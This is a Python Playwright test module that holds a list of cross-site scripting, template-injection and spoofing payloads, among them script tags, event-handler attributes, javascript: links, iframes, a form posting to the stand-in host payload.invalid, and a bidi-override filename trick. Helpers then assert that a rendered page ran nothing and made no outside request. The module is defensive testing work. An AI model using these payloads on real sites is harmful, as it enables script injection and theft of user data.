"""Texts that would run, draw or load something from outside if a page took them for markup. RAN sets a flag on the window."""

from playwright.sync_api import Page

OUTSIDE = "payload.invalid"
RAN = "window.__ran=1"
PAYLOADS = (
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"<img src=x onerror={RAN}>",
    f'<img src="https://{OUTSIDE}/pixel.png">',
    f"![chart](https://{OUTSIDE}/chart.png)",
    f"![chart](//{OUTSIDE}/chart.png 'title')",
    f"[click](javascript:{RAN})",
    f'<a href="javascript:{RAN}">answer</a>',
    f'<a href="data:text/html,<script>{RAN}</script>">answer</a>',
    f"[click](data:text/html;base64,PHNjcmlwdD4x) https://{OUTSIDE}/",
    f"<svg onload={RAN}><circle r=9></svg>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f'<iframe src="https://{OUTSIDE}/"></iframe>',
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f'<object data="https://{OUTSIDE}/a.swf"></object>',
    f'<embed src="https://{OUTSIDE}/a">',
    f'<form action="https://{OUTSIDE}/"><input name=patient><button>Send</button></form>',
    f'<button onclick="{RAN}">Press</button>',
    f"<details open ontoggle={RAN}><summary>x</summary></details>",
    f"<body onload={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=https://{OUTSIDE}/a.mp3 autoplay></audio>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:red;z-index:9999">overlay</div>',
    f'<link rel="stylesheet" href="https://{OUTSIDE}/a.css">',
    f'<meta http-equiv="refresh" content="0;url=https://{OUTSIDE}/">',
    f'<base href="https://{OUTSIDE}/">',
    f"<math><mtext><img src=x onerror={RAN}></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<template><img src=x onerror={RAN}></template>",
    "<!-- hidden <b> comment -->",
    "<plaintext>",
    "<textarea>",
    f"${{{RAN}}}",
    f"`+({RAN})+`",
    f"{{{{{RAN}}}}}",
    "{{value}} {{{value}}} {{#if value}}x{{/if}} ${value} ${props.value}",
    "{{constructor.constructor('window.__ran=1')()}}",
    f"&lt;script&gt;{RAN}&lt;/script&gt; &amp; &#60;b&#62;",
    f"&#x3C;img src=x onerror={RAN}&#x3E;",
    "safe \u202egnp.exe\u202c \u2066isolated\u2069 text",
    "null \\u003cscript\\u003e \\x3cb\\x3e",
    f"';{RAN};//",
    f'"><script>{RAN}</script>',
    f"`**<img src=x onerror={RAN}>`",
    f"$\\href{{javascript:{RAN}}}{{x}}$",
)
ALL = "\n\n".join(PAYLOADS)
HANDLERS = "nodes => nodes.flatMap(node => node.getAttributeNames()).filter(name => name.startsWith('on'))"


def watched(page: Page) -> list[str]:
    """A list that grows when a text is taken for markup: dialogs, popups, errors, requests to outside. Call it before the page opens."""
    wrong: list[str] = []
    page.on("dialog", lambda dialog: (wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda request: wrong.append(request.url) if OUTSIDE in request.url else None)
    page.on("popup", lambda popup: wrong.append(f"popup {popup.url}"))
    page.on("pageerror", lambda error: wrong.append(f"error {error}"))
    return wrong


def nothing_ran(page: Page, wrong: list[str]) -> None:
    """Fail if anything did, or could when touched."""
    assert page.eval_on_selector_all(".html-container *", HANDLERS) == []
    page.wait_for_timeout(500)
    assert page.evaluate("window.__ran") is None
    assert wrong == []
